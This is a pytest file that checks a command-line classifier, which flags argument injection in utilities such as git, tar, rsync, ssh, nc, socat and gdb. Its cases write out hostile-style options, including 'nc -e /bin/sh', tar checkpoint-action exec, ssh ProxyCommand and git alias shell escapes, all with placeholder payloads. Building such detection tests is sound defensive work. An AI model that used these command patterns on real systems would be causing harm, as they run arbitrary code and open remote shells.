"""Harmless-looking programs with dangerous options: every fact of each line."""

import pytest

from tests.launch.told import told

CASES: list[tuple[str, dict[str, object]]] = [
    ("git status", {"launcher": "git", "utility": True}),
    (
        "git -c alias.x='!echo canary' x",
        {"launcher": "git", "shell": True, "argument_injection": ("-c alias.x=!echo canary",), "utility": True},
    ),
    (
        "git -calias.x='!echo canary' x",
        {"launcher": "git", "shell": True, "argument_injection": ("-c alias.x=!echo canary",), "utility": True},
    ),
    ("git -c user.name=x status", {"launcher": "git", "utility": True}),
    (
        "git -c core.sshCommand=x fetch",
        {"launcher": "git", "argument_injection": ("-c core.sshCommand=x",), "utility": True},
    ),
    ("git -c core.pager=x log", {"launcher": "git", "argument_injection": ("-c core.pager=x",), "utility": True}),
    ("git --exec-path=./x status", {"launcher": "git", "argument_injection": ("--exec-path=./x",), "utility": True}),
    (
        "git --config-env=core.sshCommand=X fetch",
        {"launcher": "git", "argument_injection": ("--config-env core.sshCommand=X",), "utility": True},
    ),
    ("git clone ext::sh x", {"launcher": "git", "argument_injection": ("ext::sh",), "utility": True}),
    (
        "git clone -c core.sshCommand=x https://x.example",
        {"launcher": "git", "argument_injection": ("-c core.sshCommand=x",), "utility": True},
    ),
    (
        "git clone --template=./x https://x.example",
        {"launcher": "git", "argument_injection": ("--template ./x",), "utility": True},
    ),
    (
        "git ls-remote --upload-pack=x r",
        {"launcher": "git", "argument_injection": ("--upload-pack x",), "utility": True},
    ),
    ("git clone -u x r", {"launcher": "git", "argument_injection": ("-u x",), "utility": True}),
    ("git bisect run ./x", {"launcher": "git", "argument_injection": ("bisect run ./x",), "utility": True}),
    (
        "tar -cf /dev/null --checkpoint=1 --checkpoint-action=exec=x .",
        {
            "server_args": ("-cf", "/dev/null", "--checkpoint=1", "--checkpoint-action=exec=x", "."),
            "argument_injection": ("--checkpoint-action exec=x",),
            "utility": True,
        },
    ),
    (
        "tar -cf /dev/null --checkpoint=1 --checkpoint-act=exec=x .",
        {
            "server_args": ("-cf", "/dev/null", "--checkpoint=1", "--checkpoint-act=exec=x", "."),
            "argument_injection": ("--checkpoint-action exec=x",),
            "utility": True,
        },
    ),
    (
        "tar -cf /dev/null --checkpoint=1 --checkpoint-action=dot .",
        {"server_args": ("-cf", "/dev/null", "--checkpoint=1", "--checkpoint-action=dot", "."), "utility": True},
    ),
    (
        "tar -I ./x -cf a .",
        {"server_args": ("-I", "./x", "-cf", "a", "."), "argument_injection": ("-I ./x",), "utility": True},
    ),
    ("tar -xzf a.tgz", {"server_args": ("-xzf", "a.tgz"), "utility": True}),
    (
        "tar --to-command=./x -xf a",
        {"server_args": ("--to-command=./x", "-xf", "a"), "argument_injection": ("--to-command ./x",), "utility": True},
    ),
    ("tar xIf ./x a", {"server_args": ("xIf", "./x", "a"), "argument_injection": ("xIf ./x",), "utility": True}),
    (
        "rsync -e 'sh -c x' a b",
        {"server_args": ("-e", "sh -c x", "a", "b"), "argument_injection": ("-e sh -c x",), "utility": True},
    ),
    ("rsync -avz a b", {"server_args": ("-avz", "a", "b"), "utility": True}),
    (
        "rsync '--rsh=sh -c x' a b",
        {"server_args": ("--rsh=sh -c x", "a", "b"), "argument_injection": ("--rsh sh -c x",), "utility": True},
    ),
    (
        "ssh -o ProxyCommand=x h",
        {"server_args": ("-o", "ProxyCommand=x", "h"), "argument_injection": ("-o ProxyCommand=x",), "utility": True},
    ),
    (
        "ssh -oProxyCommand=x h",
        {"server_args": ("-oProxyCommand=x", "h"), "argument_injection": ("-o ProxyCommand=x",), "utility": True},
    ),
    ("ssh -o StrictHostKeyChecking=no h", {"server_args": ("-o", "StrictHostKeyChecking=no", "h"), "utility": True}),
    (
        "ssh h 'npx -y @example/s@1.0.0'",
        {
            "launcher": "npx",
            "server_args": ("h", "npx -y @example/s@1.0.0"),
            "shell": True,
            "package": "pkg:npm/%40example/s@1.0.0",
            "pin": "exact",
            "source": "remote",
            "utility": True,
        },
    ),
    (
        "ssh user@h.example sh -c 'echo canary'",
        {
            "wrappers": ("sh",),
            "server_args": ("user@h.example", "sh", "-c", "echo canary"),
            "shell": True,
            "source": "remote",
            "utility": True,
        },
    ),
    ("scp -S ./x a b", {"server_args": ("-S", "./x", "a", "b"), "argument_injection": ("-S ./x",), "utility": True}),
    (
        "zip -T -TT 'x' a b",
        {"server_args": ("-T", "-TT", "x", "a", "b"), "argument_injection": ("-TT x",), "utility": True},
    ),
    ("gdb -ex '!x' p", {"server_args": ("-ex", "!x", "p"), "argument_injection": ("-ex !x",), "utility": True}),
    (
        "gdb -batch -ex run",
        {"server_args": ("-batch", "-ex", "run"), "argument_injection": ("-ex run",), "utility": True},
    ),
    (
        "socat - 'EXEC:sh -c x'",
        {
            "wrappers": ("sh",),
            "server_args": ("-", "EXEC:sh -c x"),
            "shell": True,
            "argument_injection": ("EXEC:sh -c x",),
            "unknown": ("unknown-program",),
            "utility": True,
        },
    ),
    ("socat - TCP:h:1", {"server_args": ("-", "TCP:h:1"), "utility": True}),
    (
        "nc -e /bin/sh h 1",
        {"server_args": ("-e", "/bin/sh", "h", "1"), "argument_injection": ("-e /bin/sh",), "utility": True},
    ),
    ("nc h 1", {"server_args": ("h", "1"), "utility": True}),
    (
        "ncat --sh-exec x h 1",
        {"server_args": ("--sh-exec", "x", "h", "1"), "argument_injection": ("--sh-exec x",), "utility": True},
    ),
    (
        "sort --compress-program ./x a",
        {
            "server_args": ("--compress-program", "./x", "a"),
            "argument_injection": ("--compress-program ./x",),
            "utility": True,
        },
    ),
    ("sort a", {"server_args": ("a",), "utility": True}),
    (
        "split --filter=./x a",
        {"server_args": ("--filter=./x", "a"), "argument_injection": ("--filter ./x",), "utility": True},
    ),
    (
        "openssl req -engine ./x",
        {"server_args": ("req", "-engine", "./x"), "argument_injection": ("-engine ./x",), "utility": True},
    ),
    (
        "hg --config 'alias.x=!y' x",
        {
            "server_args": ("--config", "alias.x=!y", "x"),
            "argument_injection": ("--config alias.x=!y",),
            "utility": True,
        },
    ),
    ("wget https://x.example", {"server_args": ("https://x.example",), "utility": True}),
    ("curl https://x.example -o f", {"server_args": ("https://x.example", "-o", "f"), "utility": True}),
    ("curl -K ./x", {"server_args": ("-K", "./x"), "argument_injection": ("-K ./x",), "utility": True}),
    ("apt-get install -y x", {"launcher": "apt-get", "runs_install": True, "utility": True}),
    ("brew install x", {"launcher": "brew", "runs_install": True, "utility": True}),
    ("less file", {"server_args": ("file",), "utility": True}),
    ("man -P x y", {"server_args": ("-P", "x", "y"), "argument_injection": ("-P x",), "utility": True}),
]


@pytest.mark.parametrize(("line", "facts"), CASES, ids=[line for line, _ in CASES])
def test_facts(line: str, facts: dict[str, object]) -> None:
    assert told(line) == facts
